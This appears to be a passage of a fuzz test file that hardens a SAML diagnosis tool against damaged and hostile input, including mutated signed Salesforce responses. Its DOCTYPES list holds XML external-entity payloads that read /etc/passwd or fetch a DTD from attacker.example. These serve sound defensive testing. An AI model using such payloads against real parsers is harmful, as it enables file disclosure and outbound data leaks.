/**
 * Property-based fuzzing of the whole core pipeline: decode → safe XML parse → SAML model →
 * signature verification → diagnosis, plus the HAR reader, the page classifier and the capture
 * reducer. Inputs: random text, random bytes (plain, base64, DEFLATE), random HAR documents,
 * random capture events, and mutations of every message of the shared corpus and of really signed
 * Salesforce responses (bytes flipped, cut, duplicated; elements duplicated, moved, dropped; IDs
 * duplicated; comments, CDATA, entities, DOCTYPEs and processing instructions inserted; base64
 * characters flipped, dropped, or made invalid; every binding encoding).
 *
 * Invariants for every input: nothing throws (no stage reports an internal `analysis-failed` or
 * `signature-check-failed`), each case finishes within CASE_TIMEOUT_MS, every failed stage says
 * why with an error problem, every input yields a diagnosis with a primary finding (undecodable
 * input yields `saml-undecodable`), diagnoses are plain JSON, and a mutated signed response is
 * only ever called healthy when the identity it carries is the one that was signed.
 *
 * FUZZ_RUNS sets the total number of cases (default 300, what CI runs); FUZZ_SEED the seed
 * (default fixed, printed, so any failure is reproducible). `npm run fuzz` runs 100,000.
 */
import { existsSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { deflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { TEST_DEFAULTS, buildSalesforceResponse, createTestIdp, testContext, type TestIdp } from '../../testing/saml-builder.ts';
import { metadataFor } from '../../testing/scenario-harness.ts';
import { decodeSamlValue } from '../binding/decode-saml-value.ts';
import { analyzeFlow } from '../diagnosis/analyze-flow.ts';
import { diagnose } from '../diagnosis/diagnose.ts';
import type { DiagnosisContext } from '../diagnosis/diagnosis-context.ts';
import type { Diagnosis } from '../diagnosis/diagnosis.ts';
import { DEFAULT_CAPTURE_LIMITS, EMPTY_CAPTURE_STATE, applyCaptureEvent, type CaptureEvent, type CaptureState } from '../flow/apply-capture-event.ts';
import { classifyPageText } from '../flow/classify-page-text.ts';
import type { Flow } from '../flow/flow.ts';
import { flowFromSamlValue, flowsFromHar } from '../flow/flow-from-har.ts';
import { htmlToText } from '../flow/html-to-text.ts';
import { readDiagnosisInput } from '../input/read-diagnosis-input.ts';

// ---------------------------------------------------------------------------------------------
// Budget

const TOTAL_RUNS = positiveInteger(process.env['FUZZ_RUNS'], 300);
const SEED = integer(process.env['FUZZ_SEED'], 20_260_302);
/** A single case taking this long is a hang, whatever the machine. */
const CASE_TIMEOUT_MS = 10_000;

/** Share of TOTAL_RUNS per property; the corpus gets at least one mutation per message. */
const SHARES = {
  corpus: 0.5,
  signed: 0.15,
  text: 0.12,
  bytes: 0.1,
  har: 0.06,
  capture: 0.04,
  page: 0.03,
} as const;

function positiveInteger(text: string | undefined, fallback: number): number {
  const value = Number(text);
  return Number.isInteger(value) && value > 0 ? value : fallback;
}

function integer(text: string | undefined, fallback: number): number {
  const value = Number(text);
  return text !== undefined && text !== '' && Number.isInteger(value) ? value : fallback;
}

function runsFor(share: keyof typeof SHARES): number {
  return Math.max(1, Math.round(TOTAL_RUNS * SHARES[share]));
}

/** Vitest's own timeout per property: generous per case, only a backstop behind CASE_TIMEOUT_MS. */
function testTimeout(runs: number): number {
  return 120_000 + runs * 100;
}

const executed: Record<string, { runs: number; ms: number }> = {};

async function fuzz<T>(name: string, arbitrary: fc.Arbitrary<T>, runs: number, seed: number, check: (value: T) => Promise<void>): Promise<void> {
  const started = performance.now();
  await fc.assert(
    fc.asyncProperty(arbitrary, async (value) => {
      const caseStarted = performance.now();
      await check(value);
      const elapsed = performance.now() - caseStarted;
      if (elapsed > CASE_TIMEOUT_MS) throw new Error(`one case took ${elapsed.toFixed(0)} ms (limit ${String(CASE_TIMEOUT_MS)} ms)`);
    }),
    { numRuns: runs, seed, timeout: CASE_TIMEOUT_MS, endOnFailure: runs > 1_000 },
  );
  const entry = executed[name] ?? { runs: 0, ms: 0 };
  executed[name] = { runs: entry.runs + runs, ms: entry.ms + (performance.now() - started) };
}

// ---------------------------------------------------------------------------------------------
// The pipeline and its invariants

const NOW = testContext().now;
const BARE_CONTEXT: DiagnosisContext = { now: NOW };
const INTERNAL_FAILURES = new Set(['analysis-failed', 'signature-check-failed']);

interface Checked {
  readonly diagnosis: Diagnosis;
  readonly flow: Flow;
  readonly analysis: NonNullable<Awaited<ReturnType<typeof analyzeFlow>>['hops'][number]['saml']> | undefined;
}

/** Diagnoses one flow and checks the invariants every diagnosis must satisfy. */
async function checkFlow(flow: Flow, context: DiagnosisContext): Promise<Checked> {
  const analyzed = await analyzeFlow(flow, context);
  const diagnosis = diagnose(analyzed, context);
  expect(diagnosis.findings.length).toBeGreaterThan(0);
  expect(diagnosis.findings).toContain(diagnosis.primary);
  expect(JSON.parse(JSON.stringify(diagnosis))).toEqual(diagnosis);

  let analysis: Checked['analysis'];
  for (const hop of analyzed.hops) {
    const saml = hop.saml;
    if (saml === undefined) continue;
    analysis ??= saml;
    const codes = saml.problems.map((p) => p.code);
    expect(codes.filter((code) => INTERNAL_FAILURES.has(code)), 'an internal stage threw').toEqual([]);
    const stageFailed = !saml.decoding.ok || saml.message === undefined;
    if (stageFailed) expect(saml.problems.some((p) => p.severity === 'error'), 'a failed stage must say why').toBe(true);
    const unreadable = stageFailed || saml.message.kind === 'Unknown';
    if (unreadable && saml.parameter === 'SAMLResponse' && analyzed.hops.length === 1) {
      expect(diagnosis.findings.map((f) => f.id)).toContain('saml-undecodable');
      expect(diagnosis.primary.id).not.toBe('sso-healthy');
    }
  }
  return { diagnosis, flow, analysis };
}

async function checkValue(value: string, context: DiagnosisContext = BARE_CONTEXT): Promise<Checked> {
  const decoding = decodeSamlValue(value);
  if (!decoding.ok) expect(decoding.problems.some((p) => p.severity === 'error')).toBe(true);
  return checkFlow(flowFromSamlValue(value, context.now), context);
}

async function checkText(text: string): Promise<void> {
  const input = readDiagnosisInput(text, NOW);
  if (input.kind === 'unusable') {
    expect(input.problems.some((p) => p.severity === 'error')).toBe(true);
    return;
  }
  if (input.kind === 'message') {
    await checkFlow(input.flow, BARE_CONTEXT);
    return;
  }
  expect(input.flows.length).toBeGreaterThan(0);
  for (const flow of input.flows.slice(0, 3)) await checkFlow(flow, BARE_CONTEXT);
}

// ---------------------------------------------------------------------------------------------
// Mutations

type ByteOp =
  | { readonly op: 'flip'; readonly at: number; readonly bit: number }
  | { readonly op: 'delete'; readonly at: number; readonly length: number }
  | { readonly op: 'insert'; readonly at: number; readonly bytes: Uint8Array }
  | { readonly op: 'truncate'; readonly at: number }
  | { readonly op: 'duplicate'; readonly at: number; readonly length: number };

type XmlOp =
  | { readonly op: 'element'; readonly action: 'duplicate' | 'remove' | 'move' | 'nest'; readonly pick: number; readonly to: number }
  | { readonly op: 'insert-markup'; readonly at: number; readonly markup: string }
  | { readonly op: 'doctype'; readonly markup: string }
  | { readonly op: 'text'; readonly pick: number; readonly text: string }
  | { readonly op: 'duplicate-id'; readonly pick: number; readonly from: number }
  | { readonly op: 'namespace'; readonly pick: number; readonly uri: string };

type Encoding = 'post' | 'redirect' | 'raw-xml' | 'url-encoded' | 'wrapped-lines' | 'urlsafe' | 'unpadded';

type EncodedOp =
  | { readonly op: 'flip-char'; readonly at: number; readonly to: string }
  | { readonly op: 'drop-char'; readonly at: number }
  | { readonly op: 'insert-char'; readonly at: number; readonly char: string }
  | { readonly op: 'cut'; readonly at: number };

interface MutationPlan {
  readonly xml: readonly XmlOp[];
  readonly bytes: readonly ByteOp[];
  readonly encoding: Encoding;
  readonly encoded: readonly EncodedOp[];
}

/** Fractions in [0, 1): positions are scaled to the document at hand when the plan is applied. */
const fraction = fc.oneof(
  // Uniform over the document: fast-check's default bias would put nearly every edit at offset 0.
  { weight: 9, arbitrary: fc.noBias(fc.integer({ min: 0, max: 999_999 })).map((n) => n / 1_000_000) },
  { weight: 1, arbitrary: fc.constantFrom(0, 0.999_999) },
);

const MARKUP = [
  '<!---->',
  '<!-- x -->',
  '<![CDATA[x]]>',
  '<![CDATA[]]>',
  '&amp;',
  '&lol;',
  '&#x0;',
  '&#xD800;',
  '&#60;',
  '&#x10FFFF;',
  '<?pi data?>',
  '<x:e xmlns:x="urn:x"/>',
  '<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_fuzz"/>',
  '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"/>',
  '</',
  '<',
  ']]>',
  '"',
  '\u0000',
  '\uFEFF',
  '\uFFFF',
  ' ',
  '\r\n',
] as const;

const DOCTYPES = [
  '<!DOCTYPE r [<!ENTITY lol "lol">]>',
  '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>',
  '<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd">',
  '<!DOCTYPE r>',
] as const;

const NAMESPACES = ['', 'urn:oasis:names:tc:SAML:2.0:assertion', 'urn:oasis:names:tc:SAML:2.0:protocol', 'http://www.w3.org/2000/09/xmldsig#', 'urn:evil'] as const;

const byteOp: fc.Arbitrary<ByteOp> = fc.oneof(
  fc.record({ op: fc.constant('flip' as const), at: fraction, bit: fc.integer({ min: 0, max: 7 }) }),
  fc.record({ op: fc.constant('delete' as const), at: fraction, length: fc.integer({ min: 1, max: 64 }) }),
  fc.record({ op: fc.constant('insert' as const), at: fraction, bytes: fc.uint8Array({ minLength: 1, maxLength: 16 }) }),
  fc.record({ op: fc.constant('truncate' as const), at: fraction }),
  fc.record({ op: fc.constant('duplicate' as const), at: fraction, length: fc.integer({ min: 1, max: 256 }) }),
);

const xmlOp: fc.Arbitrary<XmlOp> = fc.oneof(
  { weight: 4, arbitrary: fc.record({ op: fc.constant('element' as const), action: fc.constantFrom('duplicate' as const, 'remove' as const, 'move' as const, 'nest' as const), pick: fraction, to: fraction }) },
  { weight: 4, arbitrary: fc.record({ op: fc.constant('insert-markup' as const), at: fraction, markup: fc.constantFrom(...MARKUP) }) },
  { weight: 1, arbitrary: fc.record({ op: fc.constant('doctype' as const), markup: fc.constantFrom(...DOCTYPES) }) },
  {
    weight: 3,
    arbitrary: fc.record({
      op: fc.constant('text' as const),
      pick: fraction,
      text: fc.oneof(fc.string({ maxLength: 40 }), fc.string({ unit: 'binary', maxLength: 40 }), fc.constantFrom(' ', '', 'arn:aws:iam::1:role/x', `mallory@${TEST_DEFAULTS.userId}@${TEST_DEFAULTS.orgId}`)),
    }),
  },
  { weight: 2, arbitrary: fc.record({ op: fc.constant('duplicate-id' as const), pick: fraction, from: fraction }) },
  { weight: 1, arbitrary: fc.record({ op: fc.constant('namespace' as const), pick: fraction, uri: fc.constantFrom(...NAMESPACES) }) },
);

const encodedOp: fc.Arbitrary<EncodedOp> = fc.oneof(
  fc.record({ op: fc.constant('flip-char' as const), at: fraction, to: fc.constantFrom('A', 'z', '0', '+', '/', '=', '-', '_') }),
  fc.record({ op: fc.constant('drop-char' as const), at: fraction }),
  fc.record({ op: fc.constant('insert-char' as const), at: fraction, char: fc.constantFrom('=', '%', '%2', '!', ' ', '\n', '\u00e9', '<', '&') }),
  fc.record({ op: fc.constant('cut' as const), at: fraction }),
);

/** Weighted so that most cases still reach the model and the signature checks (byte and base64 damage mostly stops at decoding). */
const mutationPlan: fc.Arbitrary<MutationPlan> = fc
  .record({
    xml: fc.array(xmlOp, { maxLength: 3 }),
    bytes: fc.oneof({ weight: 5, arbitrary: fc.constant([]) }, { weight: 1, arbitrary: fc.array(byteOp, { minLength: 1, maxLength: 2 }) }),
    encoding: fc.constantFrom<Encoding>('post', 'post', 'post', 'post', 'post', 'redirect', 'raw-xml', 'url-encoded', 'wrapped-lines', 'urlsafe', 'unpadded'),
    encoded: fc.oneof({ weight: 6, arbitrary: fc.constant([]) }, { weight: 1, arbitrary: fc.array(encodedOp, { minLength: 1, maxLength: 2 }) }),
  })
  .filter((plan) => plan.xml.length + plan.bytes.length + plan.encoded.length > 0);

function at(position: number, length: number): number {
  return Math.min(length, Math.floor(position * (length + 1)));
}

interface ElementSpan {
  readonly start: number;
  readonly end: number;
}

/** Start/end offsets of elements, found with a tag scan (cheap, and fine for mutation targets). */
function elementSpans(xml: string): ElementSpan[] {
  const spans: ElementSpan[] = [];
  const open: { name: string; start: number }[] = [];
  const tag = /<(\/?)([A-Za-z_][\w.:-]*)[^<>]*?(\/?)>/g;
  for (let match = tag.exec(xml); match !== null && spans.length < 2_000; match = tag.exec(xml)) {
    const [whole, closing, name, selfClosing] = match;
    if (selfClosing === '/') spans.push({ start: match.index, end: match.index + whole.length });
    else if (closing === '/') {
      const index = open.map((entry) => entry.name).lastIndexOf(name ?? '');
      if (index >= 0) {
        const entry = open[index];
        open.length = index;
        if (entry) spans.push({ start: entry.start, end: match.index + whole.length });
      }
    } else open.push({ name: name ?? '', start: match.index });
  }
  return spans;
}

function applyXmlOp(xml: string, op: XmlOp): string {
  switch (op.op) {
    case 'element': {
      const spans = elementSpans(xml);
      const span = spans[Math.floor(op.pick * spans.length)];
      if (span === undefined) return xml;
      const element = xml.slice(span.start, span.end);
      const boundaries = [...xml.matchAll(/</g)].map((m) => m.index);
      const target = boundaries[Math.floor(op.to * boundaries.length)] ?? 0;
      if (op.action === 'duplicate') return xml.slice(0, span.end) + element + xml.slice(span.end);
      if (op.action === 'remove') return xml.slice(0, span.start) + xml.slice(span.end);
      if (op.action === 'nest') return `${xml.slice(0, span.start)}<w:Wrap xmlns:w="urn:wrap">${element}</w:Wrap>${xml.slice(span.end)}`;
      const without = xml.slice(0, span.start) + xml.slice(span.end);
      const to = target > span.start ? Math.max(span.start, target - element.length) : target;
      return without.slice(0, to) + element + without.slice(to);
    }
    case 'insert-markup': {
      const gaps = [...xml.matchAll(/>/g)].map((m) => m.index + 1);
      const position = gaps[Math.floor(op.at * gaps.length)] ?? at(op.at, xml.length);
      return xml.slice(0, position) + op.markup + xml.slice(position);
    }
    case 'doctype': {
      const declaration = /^\s*<\?xml[^>]*\?>/.exec(xml)?.[0] ?? '';
      return declaration + op.markup + xml.slice(declaration.length);
    }
    case 'text': {
      const texts = [...xml.matchAll(/>([^<]+)</g)];
      const chosen = texts[Math.floor(op.pick * texts.length)];
      if (chosen === undefined) return xml;
      const escaped = op.text.replace(/&/g, '&amp;').replace(/</g, '&lt;');
      return `${xml.slice(0, chosen.index + 1)}${escaped}${xml.slice(chosen.index + 1 + (chosen[1]?.length ?? 0))}`;
    }
    case 'duplicate-id': {
      const ids = [...xml.matchAll(/\b(ID|Id|AssertionID)="([^"]*)"/g)];
      const target = ids[Math.floor(op.pick * ids.length)];
      const source = ids[Math.floor(op.from * ids.length)];
      if (target === undefined || source === undefined) return xml;
      return `${xml.slice(0, target.index)}${target[1] ?? 'ID'}="${source[2] ?? ''}"${xml.slice(target.index + target[0].length)}`;
    }
    case 'namespace': {
      const declarations = [...xml.matchAll(/xmlns(:[\w.-]+)?="([^"]*)"/g)];
      const chosen = declarations[Math.floor(op.pick * declarations.length)];
      if (chosen === undefined) return xml;
      return `${xml.slice(0, chosen.index)}xmlns${chosen[1] ?? ''}="${op.uri}"${xml.slice(chosen.index + chosen[0].length)}`;
    }
  }
}

function applyByteOp(bytes: Uint8Array, op: ByteOp): Uint8Array {
  const position = at(op.at, bytes.length);
  switch (op.op) {
    case 'flip': {
      if (bytes.length === 0) return bytes;
      const copy = Uint8Array.from(bytes);
      const index = Math.min(position, copy.length - 1);
      copy[index] = (copy[index] ?? 0) ^ (1 << op.bit);
      return copy;
    }
    case 'delete':
      return concat(bytes.subarray(0, position), bytes.subarray(position + op.length));
    case 'insert':
      return concat(bytes.subarray(0, position), op.bytes, bytes.subarray(position));
    case 'truncate':
      return bytes.subarray(0, position);
    case 'duplicate':
      return concat(bytes.subarray(0, position + op.length), bytes.subarray(position));
  }
}

function applyEncodedOp(text: string, op: EncodedOp): string {
  const position = at(op.at, text.length);
  switch (op.op) {
    case 'flip-char':
      return text.slice(0, position) + op.to + text.slice(position + 1);
    case 'drop-char':
      return text.slice(0, position) + text.slice(position + 1);
    case 'insert-char':
      return text.slice(0, position) + op.char + text.slice(position);
    case 'cut':
      return text.slice(0, position);
  }
}

function concat(...parts: Uint8Array[]): Uint8Array {
  return Uint8Array.from(Buffer.concat(parts));
}

function encode(bytes: Uint8Array, encoding: Encoding): string {
  const base64 = Buffer.from(bytes).toString('base64');
  switch (encoding) {
    case 'post':
      return base64;
    case 'redirect':
      return deflateRawSync(bytes).toString('base64');
    case 'raw-xml':
      return Buffer.from(bytes).toString('utf8');
    case 'url-encoded':
      return encodeURIComponent(base64);
    case 'wrapped-lines':
      return base64.replace(/.{1,76}/g, '$&\r\n');
    case 'urlsafe':
      return base64.replace(/\+/g, '-').replace(/\//g, '_');
    case 'unpadded':
      return base64.replace(/=+$/, '');
  }
}

/** The value a hostile or damaged capture would hand the pipeline. */
function mutate(document: string, plan: MutationPlan): string {
  let xml = document;
  for (const op of plan.xml) xml = applyXmlOp(xml, op);
  let bytes: Uint8Array = Buffer.from(xml, 'utf8');
  for (const op of plan.bytes) bytes = applyByteOp(bytes, op);
  let value = encode(bytes, plan.encoding);
  for (const op of plan.encoded) value = applyEncodedOp(value, op);
  return value;
}

// ---------------------------------------------------------------------------------------------
// Corpus

const repoRoot = fileURLToPath(new URL('../../../', import.meta.url));
const corpusDir = [process.env['SSO_DOCTOR_CORPUS'], `${repoRoot}corpus`, `${repoRoot}../shared/corpus`].find(
  (dir): dir is string => dir !== undefined && existsSync(`${dir}/catalog.json`),
);

interface CorpusMessage {
  readonly file: string;
  /** The decoded XML when the file decodes, else the file text as is (query strings, JSON). */
  readonly document: string;
  readonly now: string;
}

const corpus: readonly CorpusMessage[] = corpusDir
  ? (JSON.parse(readFileSync(`${corpusDir}/catalog.json`, 'utf8')) as { file: string; expected?: string; evaluate_at?: string | null }[])
      .filter((entry) => entry.expected !== undefined)
      .map((entry) => {
        const text = readFileSync(`${corpusDir}/${entry.file}`, 'utf8');
        const decoding = decodeSamlValue(text);
        const now = entry.evaluate_at !== undefined && entry.evaluate_at !== null && /^\d{4}-/.test(entry.evaluate_at) ? entry.evaluate_at : NOW;
        return { file: entry.file, document: decoding.ok ? decoding.xml : text, now };
      })
  : [];

// ---------------------------------------------------------------------------------------------
// Properties

describe(`fuzzing the core pipeline (FUZZ_RUNS=${String(TOTAL_RUNS)}, FUZZ_SEED=${String(SEED)})`, () => {
  beforeAll(() => {
    console.info(`fuzz: FUZZ_RUNS=${String(TOTAL_RUNS)} FUZZ_SEED=${String(SEED)} — reproduce with FUZZ_SEED=${String(SEED)} FUZZ_RUNS=${String(TOTAL_RUNS)} npx vitest run src/core/regression/fuzz`);
  });

  it.skipIf(corpus.length === 0)(
    'survives mutations of every corpus message: no throw, bounded time, a reason for every failure, a verdict for every input',
    async () => {
      const perMessage = Math.max(1, Math.ceil(runsFor('corpus') / corpus.length));
      for (const [index, message] of corpus.entries()) {
        const context: DiagnosisContext = { now: message.now };
        try {
          await fuzz('corpus mutations', mutationPlan, perMessage, SEED + 1_000 + index, async (plan) => {
            await checkValue(mutate(message.document, plan), context);
          });
        } catch (error) {
          throw new Error(`corpus message ${message.file}: ${error instanceof Error ? error.message : String(error)}`, { cause: error });
        }
      }
      expect(executed['corpus mutations']?.runs).toBe(perMessage * corpus.length);
    },
    testTimeout(runsFor('corpus') + corpus.length),
  );

  describe('mutated, really signed Salesforce responses', () => {
    let idp: TestIdp;
    let context: DiagnosisContext;
    let responses: readonly string[];

    beforeAll(async () => {
      idp = await createTestIdp();
      context = testContext({ metadata: await metadataFor(idp) });
      responses = [
        buildSalesforceResponse(idp),
        buildSalesforceResponse(idp, { sign: 'assertion' }),
        buildSalesforceResponse(idp, { sign: 'response' }),
        buildSalesforceResponse(idp, { signatureAlgorithm: 'sha1', roles: [`${TEST_DEFAULTS.roleArn},${TEST_DEFAULTS.providerArn}`, `${TEST_DEFAULTS.providerArn},${TEST_DEFAULTS.roleArn}`] }),
      ];
    });

    it(
      'never calls a mutated response healthy unless the identity it carries is the signed one',
      async () => {
        const original = await checkValue(Buffer.from(responses[0] ?? '').toString('base64'), context);
        expect(original.diagnosis.primary.id).toBe('sso-healthy');
        await fuzz('signed-response mutations', fc.tuple(fc.nat({ max: responses.length - 1 }), mutationPlan), runsFor('signed'), SEED + 2, async ([pick, plan]) => {
          const { diagnosis, analysis } = await checkValue(mutate(responses[pick] ?? '', plan), context);
          if (diagnosis.primary.id !== 'sso-healthy') return;
          const message = analysis?.message;
          const assertion = message?.kind === 'Response' ? message.assertions[0] : undefined;
          expect(assertion?.subject?.nameId?.value).toBe(TEST_DEFAULTS.nameId);
          expect(assertion?.aws.roleSessionName).toEqual([TEST_DEFAULTS.roleSessionName]);
          expect(assertion?.aws.roleValues?.every((role) => role.includes(TEST_DEFAULTS.roleArn) && role.includes(TEST_DEFAULTS.providerArn))).toBe(true);
        });
      },
      testTimeout(runsFor('signed')),
    );
  });

  it(
    'turns any text (binary, unicode, base64-ish, XML-ish, form bodies, JSON) into a diagnosis or a stated reason',
    async () => {
      const xmlToken = fc.constantFrom(
        '<', '>', '</', '/>', '<!--', '-->', '<![CDATA[', ']]>', '<?xml version="1.0"?>', '<!DOCTYPE r>', 'samlp:Response', 'saml:Assertion',
        'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"', 'xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"', 'xmlns:ds="http://www.w3.org/2000/09/xmldsig#"',
        'ds:Signature', 'ds:Reference URI="#_1"', 'ID="_1"', '&amp;', '&#x0;', '"', '=', ' ', 'saml:Attribute Name="https://aws.amazon.com/SAML/Attributes/Role"',
        'saml:AttributeValue', 'saml:NameID', 'Value="urn:oasis:names:tc:SAML:2.0:status:Success"', 'text',
      );
      const text = fc.oneof(
        fc.string({ maxLength: 500 }),
        fc.string({ unit: 'binary', maxLength: 500 }),
        fc.base64String({ maxLength: 800 }),
        fc.array(xmlToken, { maxLength: 80 }).map((tokens) => tokens.join('')),
        fc.array(xmlToken, { maxLength: 80 }).map((tokens) => Buffer.from(tokens.join('')).toString('base64')),
        fc.tuple(fc.base64String({ maxLength: 400 }), fc.string({ maxLength: 40 })).map(([value, relay]) => `SAMLResponse=${encodeURIComponent(value)}&RelayState=${encodeURIComponent(relay)}`),
        fc.json({ maxDepth: 3 }),
        fc.record({ SAMLResponse: fc.oneof(fc.base64String({ maxLength: 400 }), fc.string({ maxLength: 100 })) }).map((record) => JSON.stringify(record)),
      );
      await fuzz('random text', text, runsFor('text'), SEED + 3, checkText);
    },
    testTimeout(runsFor('text')),
  );

  it(
    'turns random bytes (plain, base64, DEFLATE, behind an XML start) into a diagnosis or a stated reason',
    async () => {
      const bytes = fc.uint8Array({ maxLength: 2_048 });
      const value = fc.oneof(
        bytes.map((b) => Buffer.from(b).toString('base64')),
        bytes.map((b) => Buffer.concat([Buffer.from('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">'), b]).toString('base64')),
        bytes.map((b) => deflateRawSync(b).toString('base64')),
        bytes.map((b) => deflateRawSync(Buffer.concat([Buffer.from('<'), b])).toString('base64')),
        bytes.map((b) => Buffer.concat([Buffer.from([0xff, 0xfe]), b]).toString('base64')),
        bytes.map((b) => `<${Buffer.from(b).toString('latin1')}`),
      );
      await fuzz('random bytes', value, runsFor('bytes'), SEED + 4, async (input) => {
        await checkValue(input);
      });
    },
    testTimeout(runsFor('bytes')),
  );

  it(
    'reads any HAR-shaped document without throwing: flows or a stated reason, each flow diagnosed',
    async () => {
      const url = fc.oneof(
        fc.constantFrom(
          'https://acme.my.salesforce.com/idp/login?app=0sp5g000000abcd',
          'https://signin.aws.amazon.com/saml',
          'https://us-east-1.signin.aws.amazon.com/saml',
          TEST_DEFAULTS.federateUrl,
          TEST_DEFAULTS.connectAppUrl,
          'https://acme.my.salesforce.com/secur/login.jsp',
          'not a url',
          '',
        ),
        fc.webUrl(),
      );
      const samlValue = fc.oneof(fc.base64String({ maxLength: 300 }), fc.string({ maxLength: 100 }), fc.constant(Buffer.from(buildSalesforceResponseUnsigned()).toString('base64')));
      const page = fc.oneof(
        fc.string({ maxLength: 300 }),
        fc.constantFrom(
          '<html><title>Error</title><body>Your request included an invalid SAML response. To logout, click here.</body></html>',
          '<h1>Access denied</h1><p>Your account has been authenticated, but has not been onboarded to this application.</p>',
          '<html><body>RoleSessionName is required in AuthnResponse (Service: AWSSecurityTokenService; Status Code: 400; Error Code: InvalidIdentityToken)</body></html>',
          '<div>Insufficient Privileges<script>x</script>',
        ),
      );
      const entry = fc.record(
        {
          startedDateTime: fc.oneof(fc.date({ min: new Date('2026-03-02T09:00:00Z'), max: new Date('2026-03-02T11:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString()), fc.string({ maxLength: 30 })),
          time: fc.oneof(fc.nat({ max: 10_000 }), fc.double(), fc.constant('x')),
          request: fc.record(
            {
              method: fc.constantFrom('GET', 'POST', 'PUT', ''),
              url,
              headers: fc.array(fc.record({ name: fc.string({ maxLength: 20 }), value: fc.string({ maxLength: 40 }) }), { maxLength: 3 }),
              postData: fc.oneof(
                fc.record({ mimeType: fc.constant('application/x-www-form-urlencoded'), text: samlValue.map((v) => `SAMLResponse=${encodeURIComponent(v)}&RelayState=x`) }),
                fc.record({ mimeType: fc.constant('application/x-www-form-urlencoded'), params: fc.array(fc.record({ name: fc.constantFrom('SAMLResponse', 'RelayState', 'x'), value: samlValue }), { maxLength: 3 }) }),
                fc.anything({ maxDepth: 2 }),
              ),
            },
            { requiredKeys: ['url'] },
          ),
          response: fc.record(
            {
              status: fc.oneof(fc.constantFrom(200, 302, 400, 403, 0), fc.integer()),
              headers: fc.array(fc.record({ name: fc.constantFrom('Location', 'Date', 'Content-Type'), value: fc.string({ maxLength: 40 }) }), { maxLength: 3 }),
              redirectURL: fc.oneof(url, fc.constant('')),
              content: fc.record({ mimeType: fc.constantFrom('text/html', 'application/json', ''), text: page, encoding: fc.constantFrom(undefined, 'base64') }, { requiredKeys: ['text'] }),
              _error: fc.constantFrom(undefined, 'net::ERR_NAME_NOT_RESOLVED', 'net::ERR_ABORTED'),
            },
            { requiredKeys: [] },
          ),
        },
        { requiredKeys: ['request'] },
      );
      const har = fc.oneof(
        { weight: 8, arbitrary: fc.array(fc.oneof({ weight: 9, arbitrary: entry }, { weight: 1, arbitrary: fc.anything({ maxDepth: 2 }) }), { maxLength: 12 }).map((entries) => ({ log: { version: '1.2', entries } })) },
        { weight: 1, arbitrary: fc.anything({ maxDepth: 3 }) },
        { weight: 1, arbitrary: fc.record({ log: fc.anything({ maxDepth: 3 }) }) },
      );
      await fuzz('random HAR', har, runsFor('har'), SEED + 5, async (document) => {
        const imported = flowsFromHar(document);
        expect(imported.flows.length > 0 || imported.problems.length > 0).toBe(true);
        for (const flow of imported.flows.slice(0, 3)) await checkFlow(flow, BARE_CONTEXT);
        // JSON.stringify(undefined) is undefined at run time, whatever its type says.
        const serialised = JSON.stringify(document) as string | undefined; // -- reason: undefined for an undefined document, unlike the lib typing says
        await checkText(serialised ?? 'null');
      });
    },
    testTimeout(runsFor('har')),
  );

  it(
    'folds any sequence of capture events without throwing and within the store caps',
    async () => {
      const limits = { ...DEFAULT_CAPTURE_LIMITS, maxFlows: 5, maxBytes: 64 * 1024 };
      const url = fc.constantFrom(
        'https://acme.my.salesforce.com/idp/login?app=0sp5g000000abcd',
        'https://signin.aws.amazon.com/saml',
        TEST_DEFAULTS.federateUrl,
        TEST_DEFAULTS.connectAppUrl,
        'https://example.com/',
        'garbage',
      );
      const base = { requestId: fc.constantFrom('1', '2', '3', '4'), url, tabId: fc.integer({ min: -1, max: 3 }), frameId: fc.integer({ min: 0, max: 2 }), timeStamp: fc.integer({ min: 0, max: 600_000 }) };
      const event: fc.Arbitrary<CaptureEvent> = fc.oneof(
        fc.record({
          kind: fc.constant('before-request' as const),
          ...base,
          method: fc.constantFrom('GET', 'POST'),
          parentFrameId: fc.integer({ min: -1, max: 1 }),
          type: fc.constantFrom('main_frame', 'sub_frame', 'xmlhttprequest', 'image'),
          body: fc.oneof(
            fc.record({ formData: fc.record({ SAMLResponse: fc.array(fc.oneof(fc.base64String({ maxLength: 2_000 }), fc.string({ maxLength: 50 })), { maxLength: 2 }) }) }),
            fc.record({ raw: fc.array(fc.uint8Array({ maxLength: 500 }), { maxLength: 3 }) }),
          ),
        }),
        fc.record({ kind: fc.constant('before-redirect' as const), ...base, statusCode: fc.constantFrom(301, 302, 303), redirectUrl: url, dateHeader: fc.string({ maxLength: 30 }) }),
        fc.record({ kind: fc.constant('completed' as const), ...base, statusCode: fc.integer({ min: 100, max: 599 }) }),
        fc.record({ kind: fc.constant('error-occurred' as const), ...base, error: fc.constantFrom('net::ERR_NAME_NOT_RESOLVED', 'net::ERR_ABORTED', 'NS_ERROR_UNKNOWN_HOST', '') }),
        fc.record({
          kind: fc.constant('page-reading' as const),
          tabId: fc.integer({ min: -1, max: 3 }),
          frameId: fc.integer({ min: 0, max: 2 }),
          url,
          reading: fc.record({ classification: fc.constantFrom('aws-signature-invalid' as const, 'connect-not-onboarded' as const, 'aws-role-selection' as const), excerpt: fc.string({ maxLength: 50 }) }),
        }),
        fc.constant({ kind: 'tick' as const }),
      );
      await fuzz('capture events', fc.array(fc.tuple(event, fc.integer({ min: 0, max: 600_000 })), { maxLength: 40 }), runsFor('capture'), SEED + 6, async (events) => {
        let state: CaptureState = EMPTY_CAPTURE_STATE;
        for (const [next, now] of events) {
          state = applyCaptureEvent(state, next, now, limits).state;
          expect(state.flows.length).toBeLessThanOrEqual(limits.maxFlows);
          if (state.flows.length > 1) expect(JSON.stringify(state.flows).length).toBeLessThanOrEqual(limits.maxBytes + 1_024);
        }
